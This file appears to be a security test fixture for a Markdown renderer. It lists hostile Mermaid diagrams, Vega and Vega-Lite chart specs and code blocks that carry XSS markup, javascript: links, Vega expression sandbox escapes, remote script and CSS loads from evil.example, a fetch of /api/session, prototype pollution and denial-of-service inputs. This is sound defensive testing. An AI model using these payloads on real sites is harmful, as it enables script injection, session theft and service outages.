import type { Attack } from "./attack.ts";

const createCodeBlock = (language: string, text: string) => `\`\`\`${language}\n${text}\n\`\`\``;
const markup = "<img src=//evil.example/x onerror=alert(1)><script>alert(1)</script>";

const createMermaidAttack = (name: string, text: string): Attack => ({
  name: `diagram: ${name}`,
  source: createCodeBlock("mermaid", text),
});
const createChartAttack = (name: string, spec: unknown, language: "vega" | "vega-lite" = "vega-lite"): Attack => ({
  name: `chart: ${name}`,
  source: createCodeBlock(language, typeof spec === "string" ? spec : JSON.stringify(spec)),
});

const data = { values: [{ a: "A", b: 1 }] };
const bars = { data, mark: "bar", encoding: { x: { field: "a" }, y: { field: "b", type: "quantitative" } } };
const hostileExpressions = [
  "datum.b.constructor.constructor('alert(1)')()",
  "this.constructor.constructor('alert(1)')()",
  "[]['filter']['constructor']('alert(1)')()",
  "window.alert(1)",
  "eval('alert(1)')",
  "import('https://evil.example/x.js')",
  "warn({toString: 'x'}, open('https://evil.example'))",
];

/** Hostile code blocks in languages that are not shown as plain code. */
export const codeBlockAttacks: readonly Attack[] = [
  createMermaidAttack("a click with a script URL", 'graph LR\n  A --> B\n  click A "javascript:alert(1)"'),
  createMermaidAttack(
    "a click with an external link",
    'graph LR\n  A --> B\n  click A href "https://evil.example" _top',
  ),
  createMermaidAttack("a click with a callback", "graph LR\n  A --> B\n  click A call alert(1)\n  click B alert"),
  createMermaidAttack("markup in a label", `graph LR\n  A["${markup}"] --> B["<iframe src=//evil.example>"]`),
  createMermaidAttack("markup on an edge", `graph LR\n  A -->|"${markup}"| B`),
  createMermaidAttack(
    "Markdown in a label",
    'graph LR\n  A["`**x** [a](javascript:alert(1)) ![i](//evil.example/i.png)`"]',
  ),
  createMermaidAttack(
    "directive that loosens security",
    `%%{init: {"securityLevel":"loose","htmlLabels":true,"flowchart":{"htmlLabels":true},"secure":[]}}%%\ngraph LR\n  A["${markup}"]`,
  ),
  createMermaidAttack(
    "front matter that loosens security",
    `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  secure: []\n---\ngraph LR\n  A["${markup}"]`,
  ),
  createMermaidAttack(
    "theme CSS",
    `---\nconfig:\n  themeCSS: "@import url(//evil.example/x.css); *{background:url(//evil.example/y)}"\n---\ngraph LR\n  A --> B`,
  ),
  createMermaidAttack(
    "theme variables",
    `%%{init: {"theme":"base","themeVariables":{"primaryColor":"red;}*{background:url(//evil.example/x)}","fontFamily":"x;background:url(//evil.example/y)"}}}%%\ngraph LR\n  A --> B`,
  ),
  createMermaidAttack(
    "an external font",
    `%%{init: {"fontFamily":"a; } @import '//evil.example/x.css'; {"}}%%\ngraph LR\n  A`,
  ),
  createMermaidAttack(
    "node styles",
    "graph LR\n  A --> B\n  style A fill:url(//evil.example/x)\n  classDef c fill:url(https://evil.example/y)\n  class B c",
  ),
  createMermaidAttack("edge styles", "graph LR\n  A --> B\n  linkStyle 0 stroke:url(//evil.example/x)"),
  createMermaidAttack(
    "an image as a node",
    'graph LR\n  A@{ img: "https://evil.example/p.png", label: "x", w: 60, h: 60 } --> B',
  ),
  createMermaidAttack("an icon as a node", 'graph LR\n  A@{ icon: "fa:user", label: "x" } --> B[fa:fa-user x]'),
  createMermaidAttack("a formula with a link", 'graph LR\n  A["$$\\\\href{javascript:alert(1)}{x}$$"]'),
  createMermaidAttack(
    "a prototype",
    '%%{init: {"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}}%%\ngraph LR\n  A',
  ),
  createMermaidAttack("prototype properties as node names", "graph LR\n  __proto__ --> constructor --> toString"),
  createMermaidAttack("a title", `graph LR\n  accTitle: ${markup}\n  accDescr: ${markup}\n  A --> B`),
  createMermaidAttack(
    "links in a sequence diagram",
    'sequenceDiagram\n  participant A\n  link A: x @ javascript:alert(1)\n  links A: {"y":"javascript:alert(1)"}\n  A->>A: x',
  ),
  createMermaidAttack(
    "messages in a sequence diagram",
    `sequenceDiagram\n  A->>B: ${markup}\n  Note over A: ${markup}`,
  ),
  createMermaidAttack(
    "links in a class diagram",
    'classDiagram\n  class A\n  link A "javascript:alert(1)"\n  callback A "alert"\n  click A href "javascript:alert(1)"',
  ),
  createMermaidAttack(
    "links in a gantt chart",
    'gantt\n  dateFormat YYYY-MM-DD\n  section x\n  a :a1, 2026-01-01, 3d\n  click a1 href "javascript:alert(1)"\n  click a1 call alert(1)',
  ),
  createMermaidAttack(
    "links in a C4 diagram",
    'C4Context\n  Person(a, "x", "y", $sprite="https://evil.example/p.png", $link="javascript:alert(1)")',
  ),
  createMermaidAttack(
    "ticket links in a kanban board",
    "---\nconfig:\n  kanban:\n    ticketBaseUrl: 'javascript:alert(1)//#TICKET#'\n---\nkanban\n  a\n    b@{ ticket: X }",
  ),
  createMermaidAttack("markup in a mind map", `mindmap\n  root((${markup}))\n    ::icon(fa fa-book)\n    a`),
  createMermaidAttack(
    "YAML aliases that multiply",
    `---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nconfig:\n  theme: *c\n---\ngraph LR\n  A`,
  ),
  createMermaidAttack("deeply nested subgraphs", `graph LR\n${"subgraph a\n".repeat(80)}A${"\nend".repeat(80)}`),
  createMermaidAttack(
    "many edges",
    `graph LR\n${Array.from({ length: 400 }, (_, n) => `n${n % 50} --> n${(n * 7) % 50}`).join("\n")}`,
  ),
  createMermaidAttack(
    "many edges in one statement",
    `graph LR\n  ${Array.from({ length: 40 }, (_, n) => `a${n}`).join(" & ")} --> ${Array.from({ length: 40 }, (_, n) => `b${n}`).join(" & ")}`,
  ),
  createMermaidAttack("a long word", `graph LR\n  A["${"x".repeat(2_000)}"]`),
  createMermaidAttack("an empty block", ""),
  createMermaidAttack("not a diagram", "alert(1)"),

  ...hostileExpressions.flatMap((expr) => [
    createChartAttack(`calculates ${expr}`, { ...bars, transform: [{ calculate: expr, as: "c" }] }),
    createChartAttack(
      `has a signal ${expr}`,
      { signals: [{ name: "s", init: expr, on: [{ events: "timer{1}", update: expr }] }], marks: [] },
      "vega",
    ),
  ]),
  createChartAttack("external data", { ...bars, data: { url: "https://evil.example/x.csv" } }),
  createChartAttack("data of this server", { ...bars, data: { url: "/api/session" } }),
  createChartAttack(
    "data from a protocol-relative URL",
    '{"data":{"url":"//evil.example/x.csv"},"usermeta":{"embedOptions":{"loader":{}}}}',
  ),
  createChartAttack(
    "external Vega data",
    { data: [{ name: "d", url: "https://evil.example/x.json" }], marks: [] },
    "vega",
  ),
  createChartAttack(
    "a data URL from a signal",
    { signals: [{ name: "u", value: "https://evil.example" }], data: [{ name: "d", url: { signal: "u" } }], marks: [] },
    "vega",
  ),
  createChartAttack("an image", {
    ...bars,
    mark: { type: "image", url: "https://evil.example/p.png", width: 9, height: 9 },
  }),
  createChartAttack("an image URL from the encoding", {
    ...bars,
    mark: "image",
    encoding: { url: { value: "javascript:alert(1)" } },
  }),
  createChartAttack("a link", { ...bars, encoding: { ...bars.encoding, href: { value: "javascript:alert(1)" } } }),
  createChartAttack("a tooltip", { ...bars, encoding: { ...bars.encoding, tooltip: { value: markup } } }),
  createChartAttack("a title", { ...bars, title: markup, description: markup }),
  createChartAttack("labels", { ...bars, data: { values: [{ a: markup, b: 1 }] } }),
  createChartAttack("a font", { ...bars, config: { font: "x; background: url(//evil.example/x)" } }),
  createChartAttack("a colour", { ...bars, mark: { type: "bar", color: "url(//evil.example/x)" } }),
  createChartAttack("a background", { ...bars, background: "url(https://evil.example/x)" }),
  createChartAttack(
    "an element of the page",
    { signals: [{ name: "s", bind: { element: "body", input: "text" } }], marks: [] },
    "vega",
  ),
  createChartAttack(
    "events of the page",
    { signals: [{ name: "s", on: [{ events: "window:mousemove", update: "open('//evil.example')" }] }], marks: [] },
    "vega",
  ),
  createChartAttack("embed options", {
    ...bars,
    usermeta: { embedOptions: { loader: {}, actions: true, editorUrl: "javascript:alert(1)" } },
  }),
  createChartAttack("another schema", { ...bars, $schema: "javascript:alert(1)" }),
  createChartAttack(
    "a prototype",
    '{"__proto__":{"polluted":true},"mark":"bar","data":{"values":[{"__proto__":{"polluted":true}}]}}',
  ),
  createChartAttack(
    "an endless sequence",
    { data: [{ name: "t", transform: [{ type: "sequence", start: 0, stop: 1e12 }] }], marks: [] },
    "vega",
  ),
  createChartAttack("deep nesting", `${"[".repeat(1_500)}1${"]".repeat(1_500)}`),
  createChartAttack("deeply nested layers", `${'{"layer":['.repeat(300)}{}${"]}".repeat(300)}`),

  {
    name: "expander: toggle",
    source: createCodeBlock("toggle", `${markup}\n[x](javascript:alert(1)) ![x](//evil.example/x)`),
  },
  {
    name: "expander: apiResult",
    source: createCodeBlock("apiResult", JSON.stringify({ html: markup, url: "javascript:alert(1)" })),
  },
  {
    name: "JSON",
    source: createCodeBlock("json", JSON.stringify({ [markup]: markup, __proto__: { polluted: true } })),
  },
];
